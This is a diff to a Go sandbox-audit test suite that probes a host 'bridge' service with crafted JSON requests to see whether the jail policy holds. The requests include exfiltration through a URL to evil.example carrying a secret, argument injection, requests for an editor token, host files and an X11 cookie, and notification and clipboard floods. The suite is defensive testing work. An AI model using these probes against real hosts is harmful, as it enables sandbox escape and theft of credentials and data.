@@ -3,6 +3,7 @@ package bridges
 import (
 	"bufio"
 	"encoding/json"
+	"io"
 	"net"
 	"os"
 	"strings"
@@ -26,24 +27,32 @@ const control = `{"bridge":"notify","title":"audit"}`
 
 // say sends a line, and returns the answer, or what stands for it.
 func say(line string) (answer string, done bool) {
+	why, _, done := ask(line)
+	return why, done
+}
+
+// ask is say, with all that comes back.
+func ask(line string) (why string, whole []byte, done bool) {
 	c, err := net.Dial("unix", socket)
 	if err != nil {
-		return attack.Plain(err), false
+		return attack.Plain(err), nil, false
 	}
 	defer c.Close()
-	_ = c.SetDeadline(time.Now().Add(patience))
+	_ = c.SetDeadline(soon())
 	if _, err := c.Write([]byte(line + "\n")); err != nil {
-		return attack.Plain(err), false
+		return attack.Plain(err), nil, false
 	}
-	text, err := bufio.NewReader(c).ReadString('\n')
+	in := bufio.NewReader(c)
+	text, err := in.ReadBytes('\n')
 	if err != nil {
-		return attack.Plain(err), false
+		return attack.Plain(err), nil, false
 	}
 	var a struct{ Error string }
-	if json.Unmarshal([]byte(text), &a) != nil {
-		return "it is answered with what is no JSON", true
+	if json.Unmarshal(text, &a) != nil {
+		return "it is answered with what is no JSON", text, true
 	}
-	return a.Error, a.Error == ""
+	data, _ := io.ReadAll(in)
+	return a.Error, append(text, data...), a.Error == ""
 }
 
 var works = sync.OnceValue(func() attack.Result {
@@ -96,8 +105,14 @@ func requests() []request {
 		{"open-answering", "RFC 8252, 7.3: a port of the caller's loopback", page("https://example.org/?redirect_uri=http://localhost:8000/")},
 		{"open-long", "CWE-770", page("https://example.org/" + strings.Repeat("x", 5000))},
 		{"open-and-more", "strict parsing", `{"bridge":"open","url":"https://example.org/","title":"x"}`},
-		{"clipboard-off", "another bridge than the policy names", `{"bridge":"clipboard"}`},
-		{"clipboard-image-off", "another bridge than the policy names", `{"bridge":"clipboard","type":"image/png"}`},
+		{"open-carry", "an address carries out what the jail knows", page("https://evil.example/?q=secret")},
+		{"clipboard-targets", "ICCCM", `{"bridge":"clipboard","type":"TARGETS"}`},
+		{"clipboard-files", "names of files that were copied", `{"bridge":"clipboard","type":"text/uri-list"}`},
+		{"clipboard-option", "CWE-88", `{"bridge":"clipboard","type":"--primary"}`},
+		{"clipboard-primary", "what is marked is not copied", `{"bridge":"clipboard","type":"image/png","selection":"primary"}`},
+		{"ide-window", "what the supervisor alone asks: the editor's token", `{"bridge":"ide","project":"{project}"}`},
+		{"ide-path", "what the supervisor alone asks: the host's files", `{"bridge":"ide","path":"/etc"}`},
+		{"display-trusted", "what the supervisor alone asks: a cookie", `{"bridge":"display","type":"x11-trusted"}`},
 		{"clipboard-text", "xclip(1)", `{"bridge":"clipboard","type":"text/plain"}`},
 		{"exec", "there is none", `{"bridge":"exec","url":"https://example.org/"}`},
 		{"notify-escape", "what a terminal obeys", `{"bridge":"notify","title":"\u001b[2J"}`},
@@ -112,6 +127,9 @@ func requests() []request {
 
 // mayNotify is how many notifications a minute no person would miss.
 const mayNotify = 20
+
+// mayLook is how often a person pastes.
+const mayLook = 40
 
 // Attacks ask for more than the words of a policy say.
 func Attacks() []attack.Attack {
@@ -128,36 +146,101 @@ func Attacks() []attack.Attack {
 		})
 	}
 	for _, r := range requests() {
-		add(r.name, r.source, "the host does it", func(*attack.Env) attack.Result {
-			why, done := say(r.line)
+		add(r.name, r.source, "the host does it", func(e *attack.Env) attack.Result {
+			why, done := say(strings.ReplaceAll(r.line, "{project}", e.Desk.Project))
 			if done {
 				return attack.Through("it is done %s", why)
 			}
 			return attack.HeldBy("%s", why)
 		})
 	}
-	add("flood", "CWE-770", "the host does it as often as it is asked", func(*attack.Env) attack.Result {
-		n, last := 0, ""
-		for range 200 {
-			why, done := say(control)
-			if last = why; done {
-				n++
+	add("peer-outside", "SO_PEERCRED: a process that is in no jail", "it is answered", func(e *attack.Env) attack.Result {
+		if err := e.Ask(peer); err != nil {
+			return attack.Failure("%v", err)
+		}
+		for end := soon(); time.Now().Before(end); time.Sleep(time.Millisecond) {
+			if text, err := os.ReadFile(e.Desk.Answer); err == nil {
+				return attack.HeldBy("%s", text)
 			}
 		}
-		if n > mayNotify {
-			return attack.Through("%d times in a moment", n)
-		}
-		return attack.HeldBy("%s", last)
+		return attack.Failure("the host has not tried")
 	})
+	for _, c := range clipboardAttacks() {
+		add("clipboard-"+c.name, c.source, "the jail has more than an image", c.run)
+	}
+	for _, c := range editorAttacks() {
+		add("ide-"+c.name, c.source, "the editor does it, or says it", c.run)
+	}
+	for _, c := range displayAttacks() {
+		add("display-"+c.name, c.source, "the jail has more than one socket", c.run)
+	}
+	flood := func(line string, most int) func(*attack.Env) attack.Result {
+		return func(*attack.Env) attack.Result {
+			n, last := 0, ""
+			for range 200 {
+				why, done := say(line)
+				if last = why; done {
+					n++
+				}
+			}
+			if n > most {
+				return attack.Through("%d times in a moment", n)
+			}
+			return attack.HeldBy("%s", last)
+		}
+	}
+	add("flood", "CWE-770", "the host does it as often as it is asked", flood(control, mayNotify))
+	add("clipboard-flood", "a clipboard that is watched", "the host does it as often as it is asked", flood(`{"bridge":"clipboard"}`, mayLook))
 	add("starts-other", "CWE-88", "a program of the host is called otherwise", func(*attack.Env) attack.Result {
 		return attack.HeldBy("the programs of the host say how they were called")
 	})
-	last := &all[len(all)-1]
-	last.Judge = func(w attack.Witness, r attack.Result) attack.Result {
-		if w.Arrived(last.Name) {
-			return attack.Through("a program was called with what nobody may ask for")
+	for i := range all {
+		all[i].Judge = func(w attack.Witness, r attack.Result) attack.Result {
+			if r.Verdict == attack.Held && w.Arrived(all[i].Name) {
+				return attack.Through("the host saw it come through")
+			}
+			return r
 		}
-		return r
 	}
-	return all
+	return append(all, offAttacks()...)
+}
+
+// offAttacks are made in the jail that is audited: on what its policy does not name.
+func offAttacks() []attack.Attack {
+	off := func(name string, granted func(f attack.Facts) bool, run func() attack.Result) attack.Attack {
+		return attack.Attack{
+			Name: "bridge-" + name, Class: Class, Promise: attack.PromiseServices, Source: "another bridge than the policy names", Success: "the host does it",
+			Run: func(e *attack.Env) attack.Result {
+				if granted(e.Facts) {
+					return attack.Inapplicable("the policy grants it")
+				}
+				return run()
+			},
+		}
+	}
+	asked := func(line string) func() attack.Result {
+		return func() attack.Result {
+			if why, done := say(line); !done {
+				return attack.HeldBy("%s", why)
+			}
+			return attack.Through("it is done")
+		}
+	}
+	clipboard := func(f attack.Facts) bool { return f.Clipboard }
+	return []attack.Attack{
+		off("clipboard-off", clipboard, asked(`{"bridge":"clipboard"}`)),
+		off("clipboard-image-off", clipboard, asked(`{"bridge":"clipboard","type":"image/png"}`)),
+		off("ide-off", func(f attack.Facts) bool { return f.IDE }, func() attack.Result {
+			c, err := net.DialTimeout("tcp", editorAt, patience)
+			if err != nil {
+				return attack.HeldBy("%s", attack.Plain(err))
+			}
+			defer c.Close()
+			_ = c.SetDeadline(soon())
+			if _, said, err := upgrade(c, "/"); said == "" {
+				return attack.HeldBy("%s", attack.Plain(err))
+			}
+			return attack.Through("an editor answers")
+		}),
+	}
 }
